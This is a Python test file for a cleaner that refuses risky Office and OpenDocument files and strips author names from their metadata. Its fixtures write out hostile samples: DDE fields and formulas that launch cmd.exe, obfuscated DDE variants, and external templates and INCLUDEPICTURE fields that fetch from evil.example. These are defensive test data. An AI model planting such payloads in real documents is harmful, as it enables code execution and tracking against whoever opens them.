"""Office documents, judged before anybody opens them (knowledge: E3 17), and without the names of their writers."""

import io
import zipfile

import pytest

from assets.cleaning.clean import clean
from assets.cleaning.refusal import RefusedError

from .test_archives import packed

ODT = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<o/>"}
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}


def office(kind: str, more: dict[str, bytes] | None = None, types: str = "main+xml") -> bytes:
    return packed({"[Content_Types].xml": f"<Types>{types}</Types>".encode(), MAIN[kind]: b"<w/>", **(more or {})})


def related(what: str, target: str = "https://evil.example/x") -> dict[str, bytes]:
    relation = f'<Relationship Id="r1" Type="http://any/relationships/{what}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/settings.xml.rels": f"<Relationships>{relation}</Relationships>".encode()}


def field(*pieces: str) -> dict[str, bytes]:
    """A field of a text, its code in some runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return {"word/header1.xml": f"<w:hdr><w:p>{runs}</w:p></w:hdr>".encode()}


def odt(inside: bytes) -> bytes:
    return packed({**ODT, "content.xml": b"<o>%s</o>" % inside})


MACROS = '<Override PartName="/a.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
VBA = '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>'
ESCAPED = '<p:Rs><p:Relationship Type="a/&#97;ttachedTemplate" Target="x" TargetMode = "External"/></p:Rs>'
LOADING = {
    "template in other letters": {"word/_rels/settings.xml.RELS": ESCAPED.encode()},
    "chunk of another kind": related("aFChunk"),
    "sound elsewhere": related("audio"),
    "compound file under another name": {"word/media/image1.dat": b"\xd0\xcf\x11\xe0\xa1\xb1"},
    "program among the embedded": {"word/embeddings/setup.exe": b"MZ"},
    "package among the embedded": {"word/embeddings/package.zip": packed({"a.exe": b"MZ"})},
    "archive under another name": {"word/media/image1.png": packed({"a.exe": b"MZ"})},
    "object by its element": {"word/footer1.xml": b"<w:p><o:OLEObject Type='Link' ProgID='Package'/></w:p>"},
    "DDE in pieces": field("D", "DEAU", "TO c:\\cmd.exe"),
    "DDE in entities": field("&#68;&#x44;E c:\\cmd.exe"),
    "DDE in numbers": field(" QUOTE 68 68 69 65 85 84 79 "),
    "DDE in an attribute": {"word/a.xml": b"<w:fldSimple w:instr='DDE c:cmd.exe'/>"},
    "picture on opening": field(' INCLUDEPICTURE "https://evil.example/spy.png" '),
    "DDE in a part of another name": {"word/a.dat": b"\xef\xbb\xbf <w:p><w:instrText>DDE x</w:instrText></w:p>"},
}
LOADING_TABLES = {
    "DDE in a formula": {"xl/worksheets/sheet1.xml": b"<c><f>cmd|&apos;/C calc&apos;!A0</f></c>"},
    "DDE under a name": {"xl/a.xml": b"<definedName name='a'>cmd|'/C calc'!A0</definedName>"},
    "DDE with a prefix": {"xl/externalLinks/externalLink1.xml": b"<x:externalLink><x:ddeLink/></x:externalLink>"},
    "formula that fetches": {"xl/a.xml": b"<f>_xlfn.WEBSERVICE(A1)</f>"},
    "data from elsewhere": {"xl/connections.xml": b"<connections/>"},
}


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (
            office("docx", field(' HYPERLINK "https://example.org" ') | {"word/b.xml": b"<w:t>the DDE standard</w:t>"}),
            "docx",
        ),
        (office("xlsx", {"xl/a.xml": b'<c><f>A1&amp;"a|b"</f></c>'}), "xlsx"),
        (office("xlsx", {"xl/drawings/vmlDrawing1.vml": b"<xml><div>two<br>lines</div></xml>"}), "xlsx"),
        (office("docx", related("hyperlink")), "docx"),
        (office("pptx", {"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": office("xlsx")}), "pptx"),
        (office("xlsx"), "xlsx"),
        (packed({**ODT, "Configurations2/": b"", "Configurations2/accelerator/current.xml": b""}), "odt"),
    ],
    ids=["fields", "formulas", "open line breaks", "link to a page", "chart data", "table", "open document"],
)
def test_an_ordinary_office_document_passes(content, kind):
    assert clean(content, kind).content == content


@pytest.mark.parametrize(
    ("content", "kind", "reason"),
    [
        (office("docx", {"word/vbaProject.bin": b"-"}), "docx", "office-macros"),
        (office("docx", types=MACROS), "docx", "office-macros"),
        (office("xlsx", {"xl/macrosheets/sheet1.xml": b"-"}), "xlsx", "office-macros"),
        (office("docx", {"word/activeX/activeX1.xml": b"-"}), "docx", "office-macros"),
        (packed({"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/s.xml": b"-"}), "odt", "office-macros"),
        (office("docx", related("attachedTemplate")), "docx", "office-external"),
        (office("docx", related("oleObject", "mhtml:https://evil.example")), "docx", "office-external"),
        (office("docx", {"word/embeddings/oleObject1.bin": b"-"}), "docx", "office-external"),
        (
            office("docx", {"word/header.xml": b"<instrText> DDEAUTO c:\\cmd.exe</instrText>"}),
            "docx",
            "office-external",
        ),
        (
            office("xlsx", {"xl/externalLinks/externalLink1.xml": b"<ddeLink ddeService='cmd'/>"}),
            "xlsx",
            "office-external",
        ),
        *((office("docx", more), "docx", "office-external") for more in LOADING.values()),
        *((office("xlsx", more), "xlsx", "office-external") for more in LOADING_TABLES.values()),
        (office("docx", types=VBA), "docx", "office-macros"),
        (
            office("pptx", {"ppt/embeddings/x.xlsx": office("xlsx", {"xl/vbaProject.bin": b"-"})}),
            "pptx",
            "office-macros",
        ),
        (office("docx", related("vbaProject")), "docx", "office-macros"),
        (odt(b"<a xlink:href='vnd.sun.star.script:x?language=Basic'/>"), "odt", "office-macros"),
        (odt(b"<script:event-listener script:event-name='dom:load'/>"), "odt", "office-macros"),
        (odt(b"<text:dde-connection-decl office:dde-application='cmd'/>"), "odt", "office-external"),
        (office("docx", {"word/A.XML": b"<w/>", "word/a.xml": b"<w/>"}), "docx", "archive-broken"),
        (office("docx", {"word/a.xml": "<?xml version='1.0'?><w/>".encode("utf-16-le")}), "docx", "archive-broken"),
        (office("docx", {"word/a.xml": b"<?xml version='1.0' encoding='iso-8859-5'?><w/>"}), "docx", "archive-broken"),
        (office("docx", {"word/a.xml": b"<w><torn"}), "docx", "archive-broken"),
        (office("docx", {"word/a.xml": b"<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"}), "docx", "archive-broken"),
        (packed({"a.txt": b"-"}), "docx", "kind"),
        (office("docx"), "odt", "kind"),
    ],
)
def test_an_office_document_with_macros_or_foreign_parts_is_refused(content, kind, reason):
    with pytest.raises(RefusedError) as refusal:
        clean(content, kind)

    assert refusal.value.reason == reason


CORE = (
    b'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties">'
    b"<dc:title>Network</dc:title><dc:creator>Ann Sender</dc:creator>"
    b'<cp:lastModifiedBy xml:space="preserve"><![CDATA[Ann Sender]]></cp:lastModifiedBy></cp:coreProperties>'
)
COMPANY = (
    b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
    b"<Manager>Ann Sender</Manager><Company>Ann Sender</Company><Pages>3</Pages></Properties>"
)
META = (
    b"<o><meta:initial-creator>Ann Sender</meta:initial-creator><dc:creator>Ann Sender</dc:creator>"
    b"<dc:title>Network</dc:title></o>"
)
CHANGES = b"""<w:p><w:ins w:id="1" w:author="Ann Sender" w:date="2026-11-23"><w:t>w:author="x"</w:t></w:ins></w:p>"""
NOTES = (
    b"<comments><authors><author>Ann Sender</author><author>tc={1}</author></authors><commentList><comment><text>"
    b"<r><t>Ann Sender:</t></r><r><t>Too much</t></r></text></comment></commentList></comments>"
)
PEOPLE = (
    b'<personList><person displayName="Ann Sender" id="{1}" userId="S::ann@example.org" providerId="AD"/></personList>'
)
WORKBOOK = (
    b"<w><fileSharing userName='Ann Sender'/><x15ac:absPath url=\"C:\\Users\\Ann Sender\\\"/><sheet name='One'/></w>"
)
AUTHORS = b'<p:cmAuthorLst><p:cmAuthor id="0" name="Ann Sender" initials="Ann Sender" lastIdx="1"/></p:cmAuthorLst>'
NEW_AUTHORS = b'<p188:authorLst><p188:author id="{1}" name="&gt; > Ann Sender" userId="Ann Sender"/></p188:authorLst>'
ANNOTATION = (
    b"<o><office:annotation><dc:creator>Ann Sender</dc:creator><text:p>Too much</text:p>"
    b"<meta:creator-initials>Ann Sender</meta:creator-initials></office:annotation></o>"
)


def test_a_document_in_an_archive_is_judged_and_cleaned_as_by_itself():
    entries = {"read me.txt": b"-", "offers/Offer.docx": office("docx", {"docProps/core.xml": CORE})}
    archive = zipfile.ZipFile(io.BytesIO(clean(packed(entries), "zip").content))
    assert archive.namelist() == list(entries)
    document = zipfile.ZipFile(io.BytesIO(archive.read("offers/Offer.docx")))
    assert b"Ann Sender" not in document.read("docProps/core.xml")

    for bad in (office("docx", {"word/vbaProject.bin": b"-"}), packed({"a.txt": b"-"}), b"-"):
        with pytest.raises(RefusedError) as refusal:
            clean(packed({"Offer.docx": bad}), "zip")
        assert (refusal.value.reason, refusal.value.parameters) == ("archive-forbidden", {"name": "Offer.docx"})


@pytest.mark.parametrize(
    ("content", "kind", "name", "kept"),
    [
        (office("docx", {"docProps/core.xml": CORE}), "docx", "docProps/core.xml", b"Network"),
        (office("xlsx", {"package/metadata/a.psmdcp": CORE}), "xlsx", "package/metadata/a.psmdcp", b"Network"),
        (office("pptx", {"docProps/app.xml": COMPANY}), "pptx", "docProps/app.xml", b"<Pages>3</Pages>"),
        (packed({**ODT, "meta.xml": META}), "odt", "meta.xml", b"Network"),
        (office("docx", {"word/comments.xml": CHANGES}), "docx", "word/comments.xml", b'<w:t>w:author="x"</w:t>'),
        (office("xlsx", {"xl/comments1.xml": NOTES}), "xlsx", "xl/comments1.xml", b"<author>tc={1}</author>"),
        (office("xlsx", {"xl/comments1.xml": NOTES}), "xlsx", "xl/comments1.xml", b"<t>Too much</t>"),
        (office("xlsx", {"xl/persons/person.xml": PEOPLE}), "xlsx", "xl/persons/person.xml", b'id="{1}"'),
        (office("xlsx", {"xl/book.xml": WORKBOOK}), "xlsx", "xl/book.xml", b"name='One'"),
        (office("pptx", {"ppt/commentAuthors.xml": AUTHORS}), "pptx", "ppt/commentAuthors.xml", b'id="0"'),
        (office("pptx", {"ppt/authors.xml": NEW_AUTHORS}), "pptx", "ppt/authors.xml", b'id="{1}"'),
        (packed({**ODT, "content.xml": ANNOTATION}), "odt", "content.xml", b"Too much"),
    ],
)
def test_the_names_of_the_writers_go_and_the_rest_stays(content, kind, name, kept):
    archive = zipfile.ZipFile(io.BytesIO(clean(content, kind).content))

    assert archive.namelist() == zipfile.ZipFile(io.BytesIO(content)).namelist()
    assert b"Ann Sender" not in archive.read(name)
    assert kept in archive.read(name)
    assert clean(clean(content, kind).content, kind).content == clean(content, kind).content
